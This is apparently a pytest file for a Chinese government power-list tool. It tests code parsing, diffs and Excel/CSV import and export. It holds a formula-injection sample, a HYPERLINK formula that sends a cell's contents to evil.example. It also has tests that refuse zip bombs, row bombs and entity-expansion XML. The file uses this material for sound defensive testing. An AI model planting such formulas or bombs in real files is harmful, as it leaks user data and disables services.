"""Pure logic of the power lists: codes, the version diff, the Excel form."""

import csv
import io
import os
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet

from powerlists import codes, diff, xlsx, xlsx_limits

from . import xlsx_bombs


# -- codes ---------------------------------------------------------------------

def test_valid_codes_parse_into_type_main_and_sub():
    main = codes.parse("XK00012000")
    assert (main.type_code, main.main, main.sub, main.power_type) == ("XK", "00012", "000", "licensing")
    assert not main.is_sub_item and main.main_code == "XK00012000"
    sub = codes.parse(" jc00003002 ")
    assert sub.is_sub_item and sub.main_code == "JC00003000" and str(sub) == "JC00003002"


@pytest.mark.parametrize("bad, fragment", [
    ("", "不能为空"),
    ("XK0001200", "格式不正确"),
    ("XK000120000", "格式不正确"),
    ("X100012000", "格式不正确"),
    ("ZZ00012000", "类型字母“ZZ”不存在"),
    ("XK00000000", "主项编号不能为00000"),
])
def test_invalid_codes_are_rejected_in_chinese(bad, fragment):
    with pytest.raises(codes.CodeError, match=fragment):
        codes.parse(bad)
    assert not codes.is_valid(bad)


def test_code_letters_must_match_power_type():
    codes.check_type("CF00001000", "penalty")
    with pytest.raises(codes.CodeError, match="应以“XK”开头"):
        codes.check_type("CF00001000", "licensing")


def test_ten_categories_plus_public_service():
    assert len(codes.ADMINISTRATIVE_POWER_TYPES) == 10
    assert codes.POWER_TYPE_LABELS["public_service"] == "公共服务事项"
    assert codes.make("inspection", 7, 2) == "JC00007002"
    assert codes.type_from_label("行政裁决") == "adjudication" and codes.type_from_label("行政审批") is None


# -- diff ----------------------------------------------------------------------

def _data(code, **kw):
    base = {"code": code, "name": "事项" + code, "power_type": "licensing", "department": "区市场监管局",
            "level": "district", "legal_bases": [{"law": "《甲法》", "article": "第一条", "text": ""}],
            "statutory_days": 20, "promised_days": 10, "remarks": ""}
    base.update(kw)
    return base


def test_diff_finds_added_removed_and_changed_fields():
    old = {"XK00001000": _data("XK00001000"), "XK00002000": _data("XK00002000"), "XK00003000": _data("XK00003000")}
    new = {"XK00001000": _data("XK00001000", promised_days=5, remarks=None),
           "XK00003000": _data("XK00003000", legal_bases=[{"law": "《乙法》", "article": "第二条", "text": ""}]),
           "XK00004000": _data("XK00004000")}
    result = diff.diff(old, new)
    assert [d["code"] for d in result.added] == ["XK00004000"]
    assert [d["code"] for d in result.removed] == ["XK00002000"]
    assert [(c.code, [f.label for f in c.fields]) for c in result.changed] == [
        ("XK00001000", ["承诺时限"]),  # "" and None are the same empty cell
        ("XK00003000", ["设定依据"]),
    ]
    assert result.counts() == {"added": 1, "removed": 1, "changed": 2}
    assert diff.diff(old, old).is_empty


def test_diff_display_of_values():
    assert diff.display(None) == "（空）" and diff.display(True) == "是"
    assert diff.display("town", {"town": "乡镇（街道）"}) == "乡镇（街道）"
    assert diff.display([{"law": "《甲法》", "article": "第一条"}]) == "1. 《甲法》；第一条"


# -- Excel ---------------------------------------------------------------------

def _item(code, power_type="licensing", **kw):
    item = {"code": code, "name": f"测试事项{code}", "power_type": power_type, "department": "南川区市场监督管理局",
            "level": "district", "statutory_days": 20, "promised_days": 10, "fee_basis": "", "fee_standard": "",
            "complaint_phone": "023-71438315", "inspection_content": "", "inspection_method": "",
            "involves_enterprises": None, "remarks": "第一行\n第二行",
            "legal_bases": [{"law": "《中华人民共和国食品安全法》", "article": "第三十五条", "text": "国家对食品生产经营实行许可制度。"},
                            {"law": "《食品生产许可管理办法》", "article": "第二条", "text": ""}],
            "steps": [{"step": "受理", "content": "依法受理。", "basis": ""}, {"step": "审查", "content": "审查材料。", "basis": "第三十四条"}],
            "accountability": [{"case": "不予受理的。", "basis": "《中华人民共和国行政许可法》第七十二条"}]}
    item.update(kw)
    return item


NAMES = {"南川区市场监督管理局", "南川区城市管理局"}


def test_write_then_read_round_trips():
    items = [_item("XK00001000"), _item("XK00001001", name="子项"),
             _item("JC00001000", "inspection", statutory_days=None, promised_days=None, inspection_content="检查内容",
                   inspection_method="双随机", involves_enterprises=True, steps=[], accountability=[])]
    parsed = xlsx.read(xlsx.write(items), department="南川区市场监督管理局", department_names=NAMES)
    assert parsed.errors == []
    assert parsed.items == items
    assert parsed.rows == {"XK00001000": 2, "XK00001001": 3, "JC00001000": 4}


def test_template_has_the_sheets_and_headers_and_reads_as_empty():
    data = xlsx.template()
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["说明", "权力事项", "设定依据", "责任事项", "追责情形"]
    assert [c.value for c in workbook["权力事项"][1]][:3] == ["事项编码", "事项名称", "权力类型"]
    parsed = xlsx.read(data, department_names=NAMES)
    assert parsed.items == [] and parsed.errors == []


def test_missing_sheet_and_wrong_headers_are_reported():
    workbook = Workbook()
    workbook.active.title = "Sheet1"
    out = io.BytesIO()
    workbook.save(out)
    with pytest.raises(xlsx.WorkbookError) as caught:
        xlsx.read(out.getvalue())
    assert "缺少工作表「权力事项」" in str(caught.value)

    workbook = load_workbook(io.BytesIO(xlsx.template()))
    workbook["权力事项"]["B1"] = "名称"
    out = io.BytesIO()
    workbook.save(out)
    with pytest.raises(xlsx.WorkbookError) as caught:
        xlsx.read(out.getvalue())
    assert len(caught.value.errors) == 1
    assert str(caught.value.errors[0]).startswith("「权力事项」第1行：表头不正确")


def _errors(items, edit=None):
    workbook = load_workbook(io.BytesIO(xlsx.write(items)))
    if edit:
        edit(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return [str(e) for e in xlsx.read(out.getvalue(), department="南川区市场监督管理局", department_names=NAMES).errors]


def test_row_errors_name_sheet_row_and_column():
    def edit(wb):
        sheet = wb["权力事项"]
        sheet["A2"] = "XK123"  # bad code
        sheet["C3"] = "行政审批"  # unknown type
        sheet["D4"] = "南川区不存在局"  # unknown department
        sheet["G5"] = 30  # promised > statutory 20
        sheet["B6"] = None  # empty name
        sheet["K7"] = "检查内容"  # inspection field on a licence
        sheet["D8"] = "南川区城市管理局"  # another department
        wb["设定依据"]["A2"] = "XK09999000"  # child of an unknown item

    items = [_item(f"XK0000{n}000") for n in range(1, 8)] + [_item("XK00008000")]
    errors = _errors(items, edit)
    assert "「权力事项」第2行「事项编码」列：事项编码“XK123”格式不正确：应为2位类型字母+5位主项编号+3位子项编号（无子项时为000），例如 XK00012000。" in errors
    assert any(e.startswith("「权力事项」第3行「权力类型」列：权力类型“行政审批”不存在") for e in errors)
    assert "「权力事项」第4行「实施主体」列：部门“南川区不存在局”不存在，请填写部门全称。" in errors
    assert "「权力事项」第5行「承诺时限（工作日）」列：承诺时限（30个工作日）不能长于法定时限（20个工作日）。" in errors
    assert "「权力事项」第6行「事项名称」列：事项名称不能为空。" in errors
    assert "「权力事项」第7行「检查内容」列：检查内容只适用于行政检查事项。" in errors
    assert "「权力事项」第8行「实施主体」列：只能导入“南川区市场监督管理局”的事项，本行为“南川区城市管理局”。" in errors
    assert "「设定依据」第2行「事项编码」列：事项编码 XK09999000 在「权力事项」表中不存在。" in errors


def test_sub_item_needs_its_main_item_and_codes_are_unique():
    errors = _errors([_item("XK00005001"), _item("CF00001000", "penalty"), _item("CF00001000", "penalty")])
    assert "「权力事项」第2行「事项编码」列：子项 XK00005001 的主项 XK00005000 不在本清单中。" in errors
    assert "「权力事项」第4行「事项编码」列：事项编码 CF00001000 与第3行重复。" in errors


def test_type_letters_must_match_the_type_column():
    errors = _errors([_item("CF00001000", "licensing")])
    assert errors == ["「权力事项」第2行「事项编码」列：事项编码“CF00001000”的类型字母“CF”表示行政处罚，与权力类型“行政许可”不一致，应以“XK”开头。"]


def test_csv_has_a_bom_and_numbered_parts():
    text = xlsx.write_csv([_item("XK00001000")]).decode("utf-8")
    assert text.startswith("\ufeff事项编码,事项名称")
    assert "1. 《中华人民共和国食品安全法》第三十五条：国家对食品生产经营实行许可制度。" in text


# -- formula injection in exports --------------------------------------------------

LIVE_FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
# Remarks a user may type, and how each appears in the CSV export.
CSV_CELLS = [
    (LIVE_FORMULA, "'" + LIVE_FORMULA),
    ("+86 023-71438315", "'+86 023-71438315"),
    ("-5 个工作日内补正", "'-5 个工作日内补正"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'引号开头的备注", "''引号开头的备注"),
    ("'=1+1", "''=1+1"),
    ("备注中的 =1+1 与 -1", "备注中的 =1+1 与 -1"),
]


def _sheet_parts(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]


def test_xlsx_export_writes_formula_like_text_as_text_and_reads_it_back():
    # Leading tab/CR are left out: the reader strips cells, as the admin forms strip what editors type.
    texts = [text for text, _cell in CSV_CELLS if not text.startswith(("\t", "\r"))]
    items = [_item(f"XK{n:05d}000", remarks=text, name=text) for n, text in enumerate(texts, 1)]
    items[0]["steps"][0]["content"] = LIVE_FORMULA  # child sheets too
    data = xlsx.write(items)
    assert not any(re.search(r"<f[ >]", xml) for xml in _sheet_parts(data))  # not one formula
    sheet = load_workbook(io.BytesIO(data))["权力事项"]
    remarks = [row[13] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in remarks] == [(text, "s") for text in texts]
    # Marked as text like Excel marks text typed after "'": editing the cell keeps it text.
    assert [c.quotePrefix for c in remarks] == [text.startswith(("=", "+", "-", "@")) for text in texts]
    parsed = xlsx.read(data, department="南川区市场监督管理局", department_names=NAMES)
    assert parsed.errors == [] and parsed.items == items


def test_csv_export_neutralises_formulas_and_one_leading_quote_less_is_the_text():
    items = [_item(f"XK{n:05d}000", remarks=text) for n, text in enumerate([t for t, _c in CSV_CELLS], 1)]
    rows = list(csv.reader(io.StringIO(xlsx.write_csv(items).decode("utf-8-sig"), newline="")))
    assert [row[13] for row in rows[1:]] == [cell for _t, cell in CSV_CELLS]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # The rule is reversible: every cell starting with "'" got it from the export.
    assert [row[13][1:] if row[13].startswith("'") else row[13] for row in rows[1:]] == [t for t, _c in CSV_CELLS]


# -- spreadsheet bombs and files that are not workbooks ---------------------------

def _refusal(data):
    with pytest.raises(xlsx.WorkbookError) as caught:
        xlsx.read(data, department_names=NAMES)
    return str(caught.value)


def test_a_sheet_declaring_a_million_rows_is_refused_before_any_row_is_read(monkeypatch):
    streamed = []
    real = ReadOnlyWorksheet._cells_by_row

    def spy(sheet, *args, **kwargs):
        streamed.append(sheet.title)
        return real(sheet, *args, **kwargs)

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", spy)
    assert _refusal(xlsx_bombs.row_bomb()) == (
        "「权力事项」：工作表的数据范围为 A1:N1048576，共 1048576 行，超过上限 20000 行。"
        "请删除表格末尾多余的行（包括只设置了格式的空行）后重新导入。")
    assert "权力事项" not in streamed


def test_a_sheet_hiding_its_rows_behind_a_small_dimension_is_refused_on_the_rows_read():
    assert _refusal(xlsx_bombs.undeclared_row_bomb()) == (
        "「权力事项」：工作表超过上限 20000 行：第 20000 行以下还有行。"
        "请删除表格末尾多余的行（包括只设置了格式的空行）后重新导入。")


def test_rows_past_a_dimension_declared_too_small_are_still_read():
    items = [_item("XK00001000"), _item("XK00002000")]
    data = xlsx_bombs.rewrite(xlsx.write(items), "xl/worksheets/sheet1.xml",
                              lambda part: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', part))
    parsed = xlsx.read(data, department_names=NAMES)
    assert parsed.errors == [] and parsed.items == items


def test_zip_bombs_are_refused_from_the_zip_directory():
    assert re.fullmatch(r"文件中有内容的压缩比异常（\d+:1，上限 100:1），疑似压缩炸弹，已拒绝读取。",
                        _refusal(xlsx_bombs.zip_bomb(10 * 1024 * 1024)))
    assert _refusal(xlsx_bombs.zip_bomb(xlsx_limits.MAX_UNPACKED_BYTES + 1024 * 1024)) == (
        "文件解压后为 51.0 MB，超过上限 50.0 MB，疑似压缩炸弹，已拒绝读取。")


def _zip(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


@pytest.mark.parametrize("build, message", [
    (lambda: b"%PDF-1.4 not a spreadsheet", xlsx_limits.NOT_XLSX),
    (lambda: _zip(readme__txt="hello"), "文件是 zip 压缩包，但不是 Excel 工作簿（缺少 [Content_Types].xml、xl/workbook.xml）。"
                                         + xlsx_limits.SAVE_AS_XLSX),
    (lambda: _zip(**{"[Content_Types].xml": "<Types/>", "word__document.xml": "<document/>"}),
     "文件是 zip 压缩包，但不是 Excel 工作簿（缺少 xl/workbook.xml）。" + xlsx_limits.SAVE_AS_XLSX),
    (lambda: xlsx.template()[:-200], xlsx_limits.NOT_XLSX),  # cut short
    (xlsx_bombs.billion_laughs, xlsx_limits.NOT_XLSX),
    (lambda: b"PK" + b"\0" * 6 * 1024 * 1024, "文件大小为 6.0 MB，超过上限 5.0 MB。"),
    (lambda: xlsx_bombs.many_cells(xlsx_limits.MAX_ROWS, 1),
     "文件中有工作表超过上限 20000 行，请删除表格末尾多余的行（包括只设置了格式的空行）后重新导入。"),
    (lambda: xlsx_bombs.many_cells(1, xlsx_limits.MAX_CELLS_PER_ROW + 1),
     "文件中有一行超过 16384 个单元格（Excel 的列数上限），不是有效的工作表。"),
    (lambda: xlsx_bombs.many_cells(100, xlsx_limits.MAX_XML_ELEMENTS // 100),
     "文件内容过于庞大（XML 元素超过 1,000,000 个），已拒绝读取。请删除多余的行、列和格式后重新导入。"),
], ids=["not-a-zip", "zip-of-text", "zip-of-docx", "truncated", "entities", "too-large", "rows", "cells", "elements"])
def test_files_that_are_not_workbooks_or_too_big_are_refused_in_chinese(build, message):
    assert _refusal(build()) == message


def test_parts_that_are_not_xml_are_left_alone():
    items = [_item("XK00001000")]
    data = xlsx_bombs.rewrite(xlsx.write(items), "", None, add={
        "xl/media/image1.png": os.urandom(200 * 1024), "xl/printerSettings/printerSettings1.bin": b"\0" * 1024, "xl/": b""})
    parsed = xlsx.read(data, department_names=NAMES)
    assert parsed.errors == [] and parsed.items == items


def test_a_sheet_of_exactly_the_row_limit_is_read():
    parsed = xlsx.read(xlsx_bombs.many_cells(xlsx_limits.MAX_ROWS - 1, 1), department_names=NAMES)
    assert parsed.items == [] and parsed.errors == []
